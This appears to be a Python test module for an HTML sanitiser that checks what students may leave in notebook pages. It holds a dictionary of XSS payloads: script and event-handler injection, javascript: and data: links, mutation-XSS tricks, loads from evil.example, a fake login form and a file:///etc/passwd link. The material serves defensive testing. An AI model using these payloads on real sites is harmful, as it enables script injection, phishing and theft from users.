"""What a student may leave in a notebook, and how to tell that it reached a page."""

import re

from bs4 import BeautifulSoup

FORBIDDEN_TAGS = (
    "script style link meta base iframe frame object embed applet form input button select "
    "textarea svg video audio source track template noscript title html body head dialog portal "
    "image use foreignobject annotation-xml semantics maction mglyph malignmark h1 h2"
)
PICTURE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+=*")
WEB = re.compile(r"(https?://|mailto:)")


def parsed(html):
    """Return HTML as a browser would read it within a page."""
    return BeautifulSoup(f"<!DOCTYPE html><body><main>{html}</main></body>", "html5lib").main


def faults(main):
    """Return everything in a piece of a page that a student must not be able to put there."""
    found = []
    for tag in main.find_all(True):
        if tag.name.lower() in FORBIDDEN_TAGS.split():
            found.append(f"<{tag.name}>")
        for name, value in tag.attrs.items():
            if (
                name.startswith("on")
                or name in ("style", "id", "name", "srcset", "background", "action", "xlink:href")
                or (name == "src" and not PICTURE.fullmatch(value))
                or (name == "href" and not (tag.name == "a" and WEB.match(value)))
                or (name not in ("src", "href", "alt", "title") and ":" in value)
            ):
                found.append(f"{tag.name} {name}={value!r}")
    return found


PNG = "data:image/png;base64,iVBORw0KGgo="

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "broken script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "event handler": f'<img src="{PNG}" onerror="alert(1)" onload=alert(1)>',
    "event handler without space": "<img/src=x/onerror=alert(1)>",
    "details that opens": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link in disguise": '<a href=" java&#09;script&colon;alert(1)">x</a>',
    "page as a link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "page as a link in base64": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "file link": '<a href="file:///etc/passwd">x</a>',
    "protocol-relative link": '<a href="//evil.example">x</a>',
    "remote image": "<img src=https://evil.example/x.png srcset='https://evil.example/y.png 2x'>",
    "svg image": '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "html as an image": '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "old background": '<table background="https://evil.example/x.png"><tr><td>x</table>',
    "style sheet": "<style>@import url(//evil.example/x.css); body { display: none }</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(//evil.example/x)">x</p>',
    "link": '<link rel="stylesheet" href="//evil.example/x.css">',
    "preload": '<link rel="preload" as="image" href="//evil.example/x.png">',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example"><input name=p><button>Log in</button></form>',
    "form attribute": '<button formaction="javascript:alert(1)">x</button>',
    "object": '<object data="https://evil.example/x.swf"></object><embed src="//evil.example">',
    "media": '<video src="//evil.example/x" poster="//evil.example/y"></video>',
    "svg": "<svg onload=alert(1)><script>alert(1)</script><use href='//evil.example#x'/></svg>",
    "svg with a page": "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "mathml link": '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi>',
    "mathml action": '<math><maction actiontype="statusline#javascript:x">x</maction></math>',
    "mathml with html": "<math><annotation-xml encoding=text/html><script>x</script></math>",
    "parsed twice": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "comment": "<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>x</script><![endif]-->",
    "end of the page": "</code></pre></div></section></main></body></html><script>x</script>",
    "names of ours": '<p id="results" class="verdict score flags">10 of 10</p>',
    "headings of ours": "<h1>10 of 10 points</h1><h2>Results</h2>",
    "template": "<template><script>alert(1)</script></template><noscript><p title='</noscript>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "xml": '<?xml-stylesheet href="//evil.example"?><![CDATA[<script>alert(1)</script>]]>',
    "custom": "<x-widget onclick=alert(1)>x</x-widget><slot name=y></slot>",
    "label": "<dialog open>Give me your password</dialog><marquee>x</marquee>",
}
